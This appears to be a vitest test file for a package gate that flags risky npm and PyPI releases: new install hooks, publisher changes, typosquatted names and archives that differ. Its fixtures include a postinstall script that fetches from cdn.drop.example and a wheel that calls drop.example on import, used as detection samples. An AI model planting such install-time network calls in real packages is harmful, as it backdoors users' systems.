import { afterEach, expect, it } from 'vitest'
import { changeSays } from '../src/core/change.ts'
import type { Difference, Finding } from '../src/core/types.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeVersion } from './fakes/npm-package.ts'
import { startFakePypi } from './fakes/pypi.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'

/** What a release can do is compared with the last one that was served. */
const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).reverse()) await one.close()
})

type Seen = Map<string, { level: string; changes: Finding[]; difference: Difference | null }>

async function judged(...versions: FakeVersion[]): Promise<{ verdicts: Seen; gate: Gate }> {
  const npm = await startFakeNpm(versions)
  open.push(npm)
  const gate = await startGate({ sources: { npm: { url: npm.url, sumdb: null } } })
  open.push(gate)
  for (const { name, version } of versions) await (await fetch(`${gate.npm}${name}/-/${name}-${version}.tgz`)).arrayBuffer()
  const rows = await gate.app.context.database.query.selectFrom('verdicts').select(['version', 'level', 'findings', 'difference']).execute()
  const verdicts = new Map(rows.map(({ version, level, findings, difference }) => [version, {
    level, changes: (JSON.parse(findings) as Finding[]).filter(({ behaviour }) => behaviour === 'change'), difference: difference === null ? null : JSON.parse(difference) as Difference,
  }]))
  return { verdicts, gate }
}

const HOOK: Partial<FakeVersion> = {
  manifest: { scripts: { postinstall: 'node setup.js' } },
  files: { 'setup.js': "require('https').get('https://cdn.drop.example/stage', (answer) => answer.pipe(process.stdout))" },
}

it('holds a patch release that begins to reach out at installation, and says what is new', async () => {
  const { verdicts, gate } = await judged({ name: 'up', version: '1.2.2' }, { name: 'up', version: '1.2.3', ...HOOK })
  expect(verdicts.get('1.2.2')).toMatchObject({ level: 'clean', changes: [], difference: null })
  const patch = verdicts.get('1.2.3')
  expect(patch?.level).not.toBe('clean')
  expect(patch?.changes.map(({ severity, title }) => `${severity}: ${title}`)).toEqual([expect.stringContaining('high: new since 1.2.2, in a patch release')])
  expect(patch?.difference?.since).toBe('1.2.2')
  expect(patch?.difference?.added.map(changeSays)).toEqual(expect.arrayContaining(['install-hook postinstall: node setup.js', 'cdn.drop.example when it is installed or started']))
  expect(await gate.app.operator.scan('npm:up@1.2.3')).toMatchObject({ change: patch?.difference })
})

it('does not take what was held for what is known', async () => {
  const { verdicts } = await judged({ name: 'up', version: '1.2.2' }, { name: 'up', version: '1.2.3', ...HOOK }, { name: 'up', version: '1.2.4', ...HOOK })
  expect(verdicts.get('1.2.4')).toMatchObject({ changes: [{ severity: 'high' }], difference: { since: '1.2.2' } })
})

it('takes what a person released for what is known, and nothing that was taken back', async () => {
  const npm = await startFakeNpm([{ name: 'up', version: '1.2.1' }, { name: 'up', version: '1.2.2', ...HOOK }, { name: 'up', version: '1.2.3', ...HOOK }, { name: 'up', version: '1.2.4', ...HOOK }])
  open.push(npm)
  const gate = await startGate({ sources: { npm: { url: npm.url, sumdb: null } } })
  open.push(gate)
  const { operator } = gate.app
  const since = async (version: string): Promise<string | undefined> => (await operator.scan(`npm:up@${version}`)).change?.since
  const order = { ecosystem: 'npm', name: 'up', digest: null, because: 'looked at', by: 'ann', expiresAt: null } as const
  expect([await since('1.2.1'), await since('1.2.2')]).toEqual([undefined, '1.2.1'])
  await operator.order({ ...order, version: '1.2.2', action: 'release' })
  expect(await since('1.2.3')).toBe('1.2.2')
  await operator.order({ ...order, version: '1.2.2', action: 'recall' })
  await operator.order({ ...order, version: '1.2.3', action: 'hold' })
  expect(await since('1.2.4')).toBe('1.2.1')
})

it('stays calm where the version before did the same', async () => {
  const same: FakeVersion = { name: 'up', version: '1.2.2', manifest: { scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': "console.log('thanks')" } }
  const { verdicts } = await judged(same, { ...same, version: '1.2.3' })
  expect(verdicts.get('1.2.3')).toMatchObject({ level: 'clean', changes: [], difference: { since: '1.2.2', added: [], removed: [] } })
})

it('knows who published a version, and whether its origin was stated', async () => {
  const by = (publisher: string): Partial<FakeVersion> => ({ registryManifest: { _npmUser: { name: publisher } } })
  const { verdicts } = await judged({ name: 'up', version: '1.2.2', attested: true, ...by('ann') }, { name: 'up', version: '1.2.3', ...by('mallory') })
  expect(verdicts.get('1.2.3')).toMatchObject({
    changes: [{ severity: 'medium', title: expect.stringContaining('another publisher, no statement of origin') as string }],
    difference: { added: [{ of: 'publisher', what: 'mallory' }], removed: [{ of: 'publisher', what: 'ann' }, { of: 'provenance' }] },
  })
})

it('knows which packages name the same repository', async () => {
  const of = (publisher: string): Partial<FakeVersion> => ({
    manifest: { repository: 'git+https://github.com/someone/chalkboard.git' },
    registryManifest: { repository: { url: 'https://github.com/Someone/chalkboard' }, _npmUser: { name: publisher } },
  })
  const { gate } = await judged({ name: 'chalkboard', version: '3.0.0', ...of('someone') }, { name: 'chalkbord', version: '1.0.0', ...of('mallory') })
  const findings = async (target: string) => (await gate.app.operator.scan(target)).findings.map(({ detector }) => detector)
  expect(await findings('npm:chalkbord@1.0.0')).toContain('borrows-a-reputation')
  expect(await findings('npm:chalkboard@3.0.0')).toEqual([])
})

it('compares the archives of one version', async () => {
  const pypi = await startFakePypi([{ name: 'twice', files: [
    { version: '1.0', kind: 'sdist', files: { 'twice/__init__.py': 'ONE = 1\n' } },
    { version: '1.0', kind: 'wheel', files: { 'twice/__init__.py': "import urllib.request\nurllib.request.urlopen('https://drop.example/')\nONE = 1\n" } },
  ] }])
  open.push(pypi)
  const gate = await startGate({ sources: { pypi: { url: pypi.index, sumdb: null } }, origins: [pypi.files.url] })
  open.push(gate)
  const { findings } = await gate.app.operator.scan('pypi:twice==1.0')
  expect(findings.filter(({ behaviour }) => behaviour === 'archive-mismatch')).toMatchObject([{ detector: 'sdist-differs', severity: 'medium' }])
})
